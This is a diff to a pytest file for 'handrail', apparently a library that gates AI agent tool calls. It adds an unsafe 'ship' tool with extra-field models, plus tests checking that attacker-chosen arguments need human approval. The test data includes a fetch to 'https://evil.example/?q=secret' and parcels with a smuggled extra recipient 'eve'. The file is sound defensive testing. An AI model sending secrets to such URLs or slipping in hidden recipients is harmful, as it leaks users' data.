@@ -3,6 +3,8 @@
 from typing import Any
 
 import pytest
+from pydantic import BaseModel, ConfigDict
+from pydantic.dataclasses import dataclass
 
 from handrail import Approval, Effect, Idempotent, Reach, State, tool
 from handrail.contract.plan import ANYTHING, OPEN, May, OneOf, Plan
@@ -53,6 +55,23 @@ async def refund(amount: int) -> str:
     return str(amount)
 
 
+class Parcel(BaseModel):
+    model_config = ConfigDict(extra="allow")
+
+    to: str
+
+
+@dataclass(config=ConfigDict(extra="allow"))
+class Crate:
+    to: str
+
+
+@tool(effect=Effect.UNSAFE)
+async def ship(parcel: Parcel | None = None, crate: Crate | None = None) -> str:
+    """Send a thing out."""
+    return f"{parcel} {crate}"
+
+
 def words() -> Words:
     found = Words()
     found.hear("Write to bob, 2 copies.")
@@ -98,6 +117,7 @@ def asked_for(found: Go | NeedsApproval | Stopped) -> str:
         (look, {"key": "whatever"}),
         (count, {"text": "whatever"}),
         (keep, {"name": "bob", "text": "whatever"}),
+        (ship, {"parcel": {"to": "bob"}, "crate": {"to": "bob", "copies": 2}}),
     ],
 )
 def test_what_is_said_by_who_is_trusted_or_harmless_goes_on(
@@ -116,6 +136,9 @@ def test_what_is_said_by_who_is_trusted_or_harmless_goes_on(
         (send, {"to": "eve", "copies": 3}, "to, copies"),
         (fetch, {"url": "https://evil.example/?q=secret"}, "url"),
         (keep, {"name": "eve", "text": "whatever"}, "name"),
+        (ship, {"parcel": {"to": "bob", "copy": "eve"}}, "parcel"),
+        (ship, {"parcel": {"to": "bob", "eve": "bob"}}, "parcel"),
+        (ship, {"crate": {"to": "bob", "copy": "eve"}}, "crate"),
     ],
 )
 def test_what_an_attacker_could_have_chosen_needs_a_person(
